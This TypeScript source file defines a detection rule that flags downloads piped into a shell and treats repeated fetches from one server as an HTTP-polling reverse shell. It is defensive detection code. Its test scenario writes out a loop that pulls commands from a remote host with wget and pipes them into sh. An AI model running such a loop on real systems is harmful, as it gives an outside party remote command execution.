import type { DetectionCase } from '../../model/detection-case.js';
import type { Process } from '../../model/process.js';
import { type Contact, contactsOf } from '../contact.js';
import type { Draft } from '../draft.js';
import { overlap, programName, type ShellStart, seconds, shellsCommandedByInput } from '../lineage.js';
import { isDownloader } from '../programs.js';
import { defineRule } from '../rule.js';
import { scenario } from '../scenario.js';
import { apart, command, contactEvidence, destination, imageEvidence, processEvidence, related, span } from '../wording.js';

/** One download piped into one shell. */
interface Fetch {
  readonly shell: ShellStart;
  readonly client: Process;
  readonly contact: Contact;
}

const PARENTS_REMEMBERED = 10_000;

export const reverseShellHttpPolling = defineRule({
  id: 'reverse-shell-http-polling',
  title: 'Downloads piped into a shell',
  description:
    'A download and a shell that reads its commands from its input run side by side under one parent: whatever the server sends is executed. ' +
    'Once is how software is installed, and is reported as medium; again and again from the same server is a shell over HTTP.',
  level: 'high',
  stage: 'shell',
  attack: ['T1059.004', 'T1071.001', 'T1105'],
  needs: ['connections'],
  options: {
    pairs: { value: 2, description: 'Downloads from one server, under one parent, from which on it is polling.' },
    withinSeconds: { value: 600, description: 'Longest time between the first and the last of them.' },
    pairSeconds: { value: 5, description: 'Longest time between the starts of a download and of the shell that reads it.' },
  },
  falsePositives: ['Installers piped into `sh`, in builds above all: two from one server look like polling.'],
  *run({ view, option, suspects }) {
    const byParent = new Map<string, readonly Fetch[]>();
    for (const shell of shellsCommandedByInput(suspects)) {
      const fetch = fetchBeside(view, shell, seconds(option('pairSeconds')));
      if (fetch === undefined) continue;
      const key = `${shell.process.parentId} ${fetch.contact.connection.remote?.ip}`;
      const since = shell.atUs - seconds(option('withinSeconds'));
      const fetches = [...(byParent.get(key) ?? []).filter((one) => one.shell.atUs >= since), fetch];
      if (byParent.size >= PARENTS_REMEMBERED) byParent.clear();
      byParent.set(key, fetches);
      if (fetches.length === 1 || fetches.length === option('pairs')) yield draft(fetches, fetches.length >= option('pairs'));
    }
  },
  hits: [
    scenario(
      'wget asks for the next command every second',
      `
      container web
      0       node server.js
      1200      sh -c "while true; do wget -qO- http://host/cmd | sh; sleep 1; done"
      1200.1      wget -qO- http://host/cmd
      1200.2        > tcp 203.0.113.9:8080
      1200.1      sh
      1200.3        id
      1201.1      wget -qO- http://host/cmd
      1201.2        > tcp 203.0.113.9:8080
      1201.1      sh
      1201.3        ps aux
    `,
    ),
  ],
  nearMisses: [
    scenario(
      'one installer is piped into bash',
      `
      container build
      0     bash build.sh
      5       curl -fsSL https://get.example.org/install.sh
      5.1       > tcp 203.0.113.31:443
      5       bash
      6         uname -s
    `,
    ),
    scenario(
      'two installers from two servers',
      `
      container build
      0     bash build.sh
      5       curl -fsSL https://one.example.org
      5.1       > tcp 203.0.113.31:443
      5       bash
      15      curl -fsSL https://two.example.org
      15.1      > tcp 198.51.100.7:443
      15      bash
    `,
    ),
  ],
});

function fetchBeside(view: DetectionCase, shell: ShellStart, window: number): Fetch | undefined {
  const { parentId } = shell.process;
  if (parentId === undefined) return undefined;
  const startedAt = shell.process.startedAtUs ?? shell.atUs;
  for (const client of view.children(parentId)) {
    if (!isDownloader(programName(client)) || !overlap(client, shell.process)) continue;
    if (client.startedAtUs === undefined || Math.abs(client.startedAtUs - startedAt) > window) continue;
    const [contact] = contactsOf(view, client);
    if (contact !== undefined) return { shell, client, contact };
  }
  return undefined;
}

function draft(fetches: readonly Fetch[], isPolling: boolean): Draft {
  const last = fetches.at(-1);
  const first = fetches[0];
  if (last === undefined || first === undefined) throw new Error('a draft needs a download');
  const { shell, client, contact } = last;
  const where = destination(contact.connection);
  const times = isPolling ? `, ${fetches.length} times within ${apart(shell.atUs - first.shell.atUs)}` : '';
  return {
    level: isPolling ? 'high' : 'medium',
    title: isPolling ? `${programName(client)} polls ${where} for commands` : `Download from ${where} piped into ${command(shell.image)}`,
    why: `${command(client)} (pid ${client.pid}) fetched from ${where} while ${command(shell.image)} (pid ${shell.process.pid}) beside it read its commands from its input${times}.`,
    process: shell.process,
    ...span(first.shell.atUs, shell.atUs),
    connections: fetches.map((fetch) => fetch.contact.connection),
    related: fetches.flatMap((fetch) => [related(fetch.shell.process, 'shell'), related(fetch.client, 'client')]),
    evidence: fetches.flatMap((fetch) => [
      ...processEvidence(fetch.client),
      ...contactEvidence(fetch.contact),
      ...imageEvidence(fetch.shell.process, fetch.shell.image),
    ]),
    members: fetches.flatMap((fetch) => [fetch.shell.process.id, fetch.client.id]),
  };
}
